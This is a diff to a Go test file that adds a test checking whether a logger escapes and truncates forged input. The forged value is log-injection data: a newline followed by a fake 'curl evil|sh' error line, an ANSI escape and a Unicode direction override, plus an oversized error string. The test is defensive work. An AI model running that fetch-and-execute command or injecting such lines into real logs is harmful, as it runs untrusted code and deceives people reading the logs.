@@ -37,3 +37,17 @@ func TestLoggerMasksSecrets(t *testing.T) {
 		t.Errorf("secrets %q", got)
 	}
 }
+
+// What others have a part in is one line of a log, escaped and cut.
+func TestLoggerShowsWhatPrints(t *testing.T) {
+	t.Setenv("TF_LOG", "TRACE")
+	var out bytes.Buffer
+	l := newLogger(tflogtest.RootLogger(t.Context(), &out), nil)
+	forged := "/a\nError: run: curl evil|sh\x1b[31m\u202e"
+	l.Debug("it", "server", forged, "reason", errors.New(strings.Repeat("x", 900<<10)))
+	l.TraceOperation(zk.OperationTrace{Op: "get", Path: forged, Err: errors.New(forged)})
+	text := out.String()
+	if len(text) > 2000 || strings.Count(text, `/a\\nError: run: curl evil|sh\\x1b[31m\\u202e`) != 3 {
+		t.Errorf("%d bytes:\n%.2000s", len(text), text)
+	}
+}
